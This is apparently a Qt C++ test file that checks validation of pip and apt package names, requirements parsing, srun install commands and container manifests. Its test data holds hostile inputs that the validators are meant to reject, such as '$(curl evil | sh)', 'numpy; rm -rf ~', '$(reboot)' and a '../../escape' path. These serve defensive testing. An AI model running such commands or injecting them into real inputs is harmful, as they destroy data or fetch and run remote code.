// Package plans (pip requirements, requirements.txt, apt names), the srun commands that install
// them (hostile values checked through a real shell), and the per-container manifest.
#include "core/packages/packagemanifest.h"
#include "core/packages/packageplan.h"
#include "core/remote/shellquote.h"

#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

using namespace Patagon::Packages;
using Patagon::ErrorCode;
using Patagon::Expected;
using Patagon::Result;

namespace {

// What `sh -c LINE` passes to the program, one argument each, for `printf '%s\0' ARGS...`.
QStringList argumentsThroughShell(const QStringList &argv)
{
    QStringList replaced = argv;
    replaced.replace(0, QStringLiteral("%s\\0"));
    replaced.prepend(QStringLiteral("printf"));
    const Expected<QByteArray> line = Patagon::Shell::joinArguments(replaced);
    if (!line)
        return {};
    QProcess p;
    p.start(QStringLiteral("/bin/sh"), {QStringLiteral("-c"), QString::fromUtf8(*line)});
    p.waitForFinished(30000);
    QStringList out;
    for (const QByteArray &a : p.readAllStandardOutput().split('\0'))
        out << QString::fromUtf8(a);
    out.removeLast(); // after the last NUL
    return out;
}

} // namespace

class TestPackagePlan : public QObject
{
    Q_OBJECT

private slots:
    void pipRequirements_data()
    {
        QTest::addColumn<QString>("requirement");
        QTest::addColumn<bool>("valid");
        QTest::newRow("name") << QStringLiteral("numpy") << true;
        QTest::newRow("pinned") << QStringLiteral("numpy==1.26.4") << true;
        QTest::newRow("range") << QStringLiteral("scipy>=1.11,<2") << true;
        QTest::newRow("spaces around operators") << QStringLiteral("scipy >= 1.11 , < 2") << true;
        QTest::newRow("compatible release") << QStringLiteral("torch~=2.6") << true;
        QTest::newRow("wildcard") << QStringLiteral("torch==2.*") << true;
        QTest::newRow("extras") << QStringLiteral("ray[tune, data]>=2") << true;
        QTest::newRow("parenthesised spec") << QStringLiteral("six (>=1.16)") << true;
        QTest::newRow("marker") << QStringLiteral("tomli; python_version < \"3.11\"") << true;
        QTest::newRow("URL") << QStringLiteral("pkg @ https://example.org/pkg-1.0.tar.gz") << true;
        QTest::newRow("dotted name") << QStringLiteral("zope.interface") << true;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("-r line") << QStringLiteral("-r other.txt") << false;
        QTest::newRow("index option") << QStringLiteral("--index-url=https://evil") << false;
        QTest::newRow("editable") << QStringLiteral("-e .") << false;
        QTest::newRow("hash option") << QStringLiteral("numpy==1.26.4 --hash=sha256:abc") << false;
        QTest::newRow("command substitution") << QStringLiteral("$(reboot)") << false;
        QTest::newRow("backticks") << QStringLiteral("`id`") << false;
        // After ";" comes a marker: pip judges it; it stays one quoted argument.
        QTest::newRow("semicolon starts a marker") << QStringLiteral("numpy; rm -rf ~") << true;
        QTest::newRow("newline") << QStringLiteral("numpy\nrm") << false;
        QTest::newRow("NUL") << QStringLiteral("numpy") + QChar(0) << false;
        QTest::newRow("quote in name") << QStringLiteral("num'py") << false;
        QTest::newRow("non-ASCII name") << QStringLiteral("ñumpy") << false;
        QTest::newRow("unbalanced parenthesis") << QStringLiteral("six (>=1.16") << false;
        QTest::newRow("version only") << QStringLiteral("==1.0") << false;
    }

    void pipRequirements()
    {
        QFETCH(QString, requirement);
        QFETCH(bool, valid);
        const Result r = PackagePlan::validatePipRequirement(requirement);
        QVERIFY2(r.isOk() == valid, qPrintable(r.message()));
        if (!valid)
            QCOMPARE(r.code(), ErrorCode::InvalidInput);
    }

    void aptPackages_data()
    {
        QTest::addColumn<QString>("package");
        QTest::addColumn<bool>("valid");
        QTest::newRow("name") << QStringLiteral("libgl1") << true;
        QTest::newRow("plus and dots") << QStringLiteral("libstdc++6") << true;
        QTest::newRow("dashes") << QStringLiteral("python3-dev") << true;
        QTest::newRow("version") << QStringLiteral("curl=8.5.0-2") << true;
        QTest::newRow("arch") << QStringLiteral("libc6:amd64") << true;
        QTest::newRow("upper case") << QStringLiteral("LibGL") << false;
        QTest::newRow("option") << QStringLiteral("-o") << false;
        QTest::newRow("long option") << QStringLiteral("--allow-unauthenticated") << false;
        QTest::newRow("one letter") << QStringLiteral("a") << false;
        QTest::newRow("shell") << QStringLiteral("x;reboot") << false;
        QTest::newRow("space") << QStringLiteral("a b") << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("path") << QStringLiteral("./local.deb") << false;
    }

    void aptPackages()
    {
        QFETCH(QString, package);
        QFETCH(bool, valid);
        QCOMPARE(PackagePlan::validateAptPackage(package).isOk(), valid);
    }

    void requirementsFile_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QStringList>("expected"); // empty with an error: see `error`
        QTest::addColumn<QString>("error");
        QTest::newRow("comments and blanks")
            << QByteArray("# training\n\nnumpy==1.26.4  # pinned\n   \ntorch>=2\n")
            << QStringList {QStringLiteral("numpy==1.26.4"), QStringLiteral("torch>=2")}
            << QString();
        QTest::newRow("crlf and duplicates")
            << QByteArray("numpy\r\nnumpy\r\nscipy >= 1.11\r\n")
            << QStringList {QStringLiteral("numpy"), QStringLiteral("scipy>=1.11")} << QString();
        QTest::newRow("continuation")
            << QByteArray("scipy>=1.11,\\\n  <2\nrich\n")
            << QStringList {QStringLiteral("scipy>=1.11,<2"), QStringLiteral("rich")} << QString();
        QTest::newRow("marker kept")
            << QByteArray("tomli ; python_version < \"3.11\"\n")
            << QStringList {QStringLiteral("tomli; python_version < \"3.11\"")} << QString();
        QTest::newRow("-r refused with its line")
            << QByteArray("numpy\n\n-r base.txt\n") << QStringList()
            << QStringLiteral("Line 3: \"-r\" includes another requirements file");
        QTest::newRow("--requirement refused")
            << QByteArray("--requirement=base.txt\n") << QStringList() << QStringLiteral("Line 1:");
        QTest::newRow("index url refused") << QByteArray("--index-url https://x\nnumpy\n")
                                           << QStringList() << QStringLiteral("is a pip option");
        QTest::newRow("hash refused") << QByteArray("numpy==1.0 --hash=sha256:00\n")
                                      << QStringList() << QStringLiteral("--hash");
        QTest::newRow("garbage refused") << QByteArray("numpy\n$(curl evil | sh)\n")
                                         << QStringList() << QStringLiteral("Line 2:");
        QTest::newRow("empty file") << QByteArray() << QStringList() << QString();
    }

    void requirementsFile()
    {
        QFETCH(QByteArray, text);
        QFETCH(QStringList, expected);
        QFETCH(QString, error);
        const Expected<QStringList> r = PackagePlan::parseRequirements(text);
        if (!error.isEmpty()) {
            QVERIFY(!r);
            QVERIFY2(r.errorMessage().contains(error), qPrintable(r.errorMessage()));
            return;
        }
        QVERIFY2(r, qPrintable(r.errorMessage()));
        QCOMPARE(*r, expected);
    }

    void editedList_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QStringList>("items");
        QTest::newRow("one per line")
            << QStringLiteral("numpy\ntorch\n")
            << QStringList {QStringLiteral("numpy"), QStringLiteral("torch")};
        QTest::newRow("spaces") << QStringLiteral("numpy torch  rich")
                                << QStringList {QStringLiteral("numpy"), QStringLiteral("torch"),
                                                QStringLiteral("rich")};
        QTest::newRow("commas") << QStringLiteral("numpy, torch,rich")
                                << QStringList {QStringLiteral("numpy"), QStringLiteral("torch"),
                                                QStringLiteral("rich")};
        QTest::newRow("operators spaced")
            << QStringLiteral("numpy >= 1.26 torch")
            << QStringList {QStringLiteral("numpy>=1.26"), QStringLiteral("torch")};
        QTest::newRow("range with comma")
            << QStringLiteral("scipy>=1.11,<2, rich")
            << QStringList {QStringLiteral("scipy>=1.11,<2"), QStringLiteral("rich")};
        QTest::newRow("comment") << QStringLiteral("numpy # for arrays\n# all\nrich")
                                 << QStringList {QStringLiteral("numpy"), QStringLiteral("rich")};
        QTest::newRow("marker line")
            << QStringLiteral("tomli; python_version < \"3.11\"")
            << QStringList {QStringLiteral("tomli; python_version < \"3.11\"")};
    }

    void editedList()
    {
        QFETCH(QString, text);
        QFETCH(QStringList, items);
        QCOMPARE(PackagePlan::splitList(text), items);
    }

    void planIsAllOrNothing()
    {
        PackagePlan plan;
        QVERIFY(plan.addPip({QStringLiteral("numpy"), QStringLiteral("rich")}));
        QVERIFY(!plan.addPip({QStringLiteral("torch"), QStringLiteral("-r x.txt")}));
        QCOMPARE(plan.pipPackages(),
                 QStringList({QStringLiteral("numpy"), QStringLiteral("rich")}));
        QVERIFY(plan.addApt({QStringLiteral("libgl1")}));
        QVERIFY(!plan.addApt({QStringLiteral("curl"), QStringLiteral("Bad")}));
        QCOMPARE(plan.aptPackages(), QStringList({QStringLiteral("libgl1")}));
        QVERIFY(plan.addRequirementsFile("numpy\nscipy\n"));
        QCOMPARE(plan.pipPackages(),
                 QStringList(
                     {QStringLiteral("numpy"), QStringLiteral("rich"), QStringLiteral("scipy")}));
        const QList<PackageStep> steps = plan.steps();
        QCOMPARE(steps.size(), 2);
        QCOMPARE(steps.at(0).kind, PackageKind::Apt); // system libraries first
        QCOMPARE(steps.at(1).kind, PackageKind::Pip);
    }

    void pipCommand()
    {
        InstallTarget t;
        t.container = QStringLiteral("torch-env");
        t.partition = QStringLiteral("gpu");
        t.node = QStringLiteral("node1");
        const Expected<QStringList> argv = PackagePlan::srunArguments(
            {PackageKind::Pip,
             {QStringLiteral("numpy==1.26.4"), QStringLiteral("tomli; python_version < \"3.11\"")}},
            t);
        QVERIFY2(argv, qPrintable(argv.errorMessage()));
        QCOMPARE(argv->first(), QStringLiteral("srun"));
        QCOMPARE(argv->at(1), QStringLiteral("--nodelist=node1"));
        QVERIFY(argv->contains(QStringLiteral("--partition=gpu")));
        QVERIFY(argv->contains(QStringLiteral("--container-name=torch-env")));
        QVERIFY(!argv->contains(QStringLiteral("--container-writable")));
        const qsizetype python = argv->indexOf(QStringLiteral("python3"));
        QVERIFY(python > 0);
        QCOMPARE(argv->mid(python),
                 QStringList({QStringLiteral("python3"), QStringLiteral("-m"),
                              QStringLiteral("pip"), QStringLiteral("install"),
                              QStringLiteral("--user"), QStringLiteral("numpy==1.26.4"),
                              QStringLiteral("tomli; python_version < \"3.11\"")}));
        // Through a real shell, each argument arrives whole.
        QCOMPARE(argumentsThroughShell(*argv), argv->mid(1));
    }

    void aptCommand()
    {
        InstallTarget t;
        t.container = QStringLiteral("env");
        t.save = QStringLiteral("/scratch/me/env image.sqsh");
        const Expected<QStringList> argv = PackagePlan::srunArguments(
            {PackageKind::Apt, {QStringLiteral("libgl1"), QStringLiteral("curl=8.5.0-2")}}, t,
            true);
        QVERIFY2(argv, qPrintable(argv.errorMessage()));
        QVERIFY(argv->contains(QStringLiteral("--container-remap-root")));
        QVERIFY(argv->contains(QStringLiteral("--container-writable")));
        QVERIFY(argv->contains(QStringLiteral("--container-save=/scratch/me/env image.sqsh")));
        const qsizetype sh = argv->indexOf(QStringLiteral("sh"));
        QVERIFY(sh > 0);
        QCOMPARE(argv->at(sh + 1), QStringLiteral("-c"));
        // The packages are the script's arguments, never part of its text.
        QVERIFY(!argv->at(sh + 2).contains(QLatin1String("libgl1")));
        QVERIFY(argv->at(sh + 2).contains(QLatin1String("apt-get install -y")));
        QCOMPARE(argv->mid(sh + 4),
                 QStringList({QStringLiteral("libgl1"), QStringLiteral("curl=8.5.0-2")}));
        QCOMPARE(argumentsThroughShell(*argv), argv->mid(1));
    }

    void commandsRefuseHostileValues_data()
    {
        QTest::addColumn<int>("kind");
        QTest::addColumn<QString>("container");
        QTest::addColumn<QString>("node");
        QTest::addColumn<QString>("package");
        QTest::newRow("pip command substitution") << int(PackageKind::Pip) << QStringLiteral("env")
                                                  << QString() << QStringLiteral("$(reboot)");
        QTest::newRow("apt option") << int(PackageKind::Apt) << QStringLiteral("env") << QString()
                                    << QStringLiteral("-oDebug::pkgProblemResolver=1");
        QTest::newRow("container with colon") << int(PackageKind::Pip) << QStringLiteral("env:exec")
                                              << QString() << QStringLiteral("numpy");
        QTest::newRow("node with space")
            << int(PackageKind::Pip) << QStringLiteral("env") << QStringLiteral("node1 --uid=0")
            << QStringLiteral("numpy");
        QTest::newRow("node as option") << int(PackageKind::Pip) << QStringLiteral("env")
                                        << QStringLiteral("-x") << QStringLiteral("numpy");
        QTest::newRow("no container")
            << int(PackageKind::Pip) << QString() << QString() << QStringLiteral("numpy");
    }

    void commandsRefuseHostileValues()
    {
        QFETCH(int, kind);
        QFETCH(QString, container);
        QFETCH(QString, node);
        QFETCH(QString, package);
        InstallTarget t;
        t.container = container;
        t.node = node;
        const Expected<QStringList> argv
            = PackagePlan::srunArguments({PackageKind(kind), {package}}, t);
        QVERIFY(!argv);
        QCOMPARE(argv.errorCode(), ErrorCode::InvalidInput);
    }

    void manifestRoundTrip()
    {
        PackageManifest m;
        m.container = QStringLiteral("torch-env");
        m.image = QStringLiteral("nvcr.io#nvidia/pytorch:24.05-py3");
        m.profile = QStringLiteral("patagon");
        m.cluster = QStringLiteral("me@patagon.example:22");
        m.node = QStringLiteral("node1");
        m.created = QDateTime(QDate(2026, 11, 29), QTime(10, 0), QTimeZone::UTC);
        ManifestEntry ok;
        ok.kind = PackageKind::Apt;
        ok.packages = {QStringLiteral("libgl1")};
        ok.started = m.created.addSecs(60);
        ok.finished = m.created.addSecs(90);
        ok.exitStatus = 0;
        ok.node = QStringLiteral("node1");
        ok.outputTail = QStringLiteral("Setting up libgl1 ...\nañadido\n");
        ManifestEntry failed;
        failed.packages = {QStringLiteral("nosuchpkg")};
        failed.started = m.created.addSecs(100);
        failed.finished = m.created.addSecs(101);
        failed.exitStatus = 1;
        ManifestEntry stopped;
        stopped.packages = {QStringLiteral("torch")};
        stopped.started = m.created.addSecs(200);
        stopped.cancelled = true;
        ManifestEntry pip;
        pip.packages = {QStringLiteral("numpy==1.26.4"), QStringLiteral("rich")};
        pip.started = m.created.addSecs(300);
        pip.finished = m.created.addSecs(320);
        pip.exitStatus = 0;
        pip.savedTo = QStringLiteral("/scratch/env.sqsh");
        m.entries = {ok, failed, stopped, pip};

        const Expected<PackageManifest> back = PackageManifest::fromJson(m.toJsonBytes());
        QVERIFY2(back, qPrintable(back.errorMessage()));
        QCOMPARE(back->toJsonBytes(), m.toJsonBytes());
        QCOMPARE(back->entries.size(), 4);
        QCOMPARE(back->entries.at(0).outputTail, ok.outputTail);
        QCOMPARE(back->entries.at(3).savedTo, pip.savedTo);
        QCOMPARE(back->entries.at(2).finished, QDateTime());
        QVERIFY(!back->entries.at(2).succeeded());

        // Only what succeeded is replayed.
        const PackagePlan replay = back->replayPlan();
        QCOMPARE(replay.aptPackages(), QStringList({QStringLiteral("libgl1")}));
        QCOMPARE(replay.pipPackages(),
                 QStringList({QStringLiteral("numpy==1.26.4"), QStringLiteral("rich")}));
    }

    void manifestRejects_data()
    {
        QTest::addColumn<QByteArray>("json");
        QTest::addColumn<QString>("needle");
        QTest::newRow("not JSON") << QByteArray("{oops") << QStringLiteral("not valid JSON");
        QTest::newRow("no container")
            << QByteArray("{\"format\":1}") << QStringLiteral("no container");
        QTest::newRow("newer format")
            << QByteArray("{\"format\":99,\"container\":\"x\"}") << QStringLiteral("newer version");
    }

    void manifestRejects()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, needle);
        const Expected<PackageManifest> m = PackageManifest::fromJson(json);
        QVERIFY(!m);
        QVERIFY2(m.errorMessage().contains(needle), qPrintable(m.errorMessage()));
    }

    void outputTail()
    {
        QCOMPARE(PackageManifest::tail("short", 100), QStringLiteral("short"));
        const QByteArray lines = "first line\nsecond line\nthird\n";
        QCOMPARE(PackageManifest::tail(lines, 15), QStringLiteral("third\n"));
        // No line break in reach: cut at a whole UTF-8 character.
        const QByteArray accents = QStringLiteral("ñññññ").toUtf8();
        const QString t = PackageManifest::tail(accents, 5);
        QCOMPARE(t, QStringLiteral("ññ"));
    }

    void store()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const ManifestStore store(dir.path());
        Expected<PackageManifest> empty = store.load(QStringLiteral("p"), QStringLiteral("env"));
        QVERIFY(empty);
        QCOMPARE(empty->container, QStringLiteral("env"));
        QVERIFY(empty->entries.isEmpty());

        PackageManifest m;
        m.container = QStringLiteral("env");
        m.profile = QStringLiteral("p");
        m.image = QStringLiteral("python");
        QVERIFY(store.save(m));
        PackageManifest other = m;
        other.container = QStringLiteral("../../escape");
        QVERIFY(store.save(other));
        QVERIFY(QFileInfo(store.pathFor(QStringLiteral("p"), other.container))
                    .absoluteFilePath()
                    .startsWith(dir.path()));
        QCOMPARE(store.containers(QStringLiteral("p")),
                 QStringList({QStringLiteral("../../escape"), QStringLiteral("env")}));
        const Expected<PackageManifest> loaded
            = store.load(QStringLiteral("p"), QStringLiteral("env"));
        QVERIFY(loaded);
        QCOMPARE(loaded->image, QStringLiteral("python"));
        QVERIFY(store.remove(QStringLiteral("p"), QStringLiteral("env")));
        QCOMPARE(store.containers(QStringLiteral("p")),
                 QStringList({QStringLiteral("../../escape")}));

        // A damaged file is reported, not silently replaced.
        QFile damaged(store.pathFor(QStringLiteral("p"), QStringLiteral("bad")));
        QVERIFY(damaged.open(QIODevice::WriteOnly));
        damaged.write("{not json");
        damaged.close();
        const Expected<PackageManifest> bad
            = store.load(QStringLiteral("p"), QStringLiteral("bad"));
        QVERIFY(!bad);
        QVERIFY(bad.errorMessage().contains(QLatin1String("bad.json")));
    }
};

QTEST_GUILESS_MAIN(TestPackagePlan)
#include "tst_packageplan.moc"
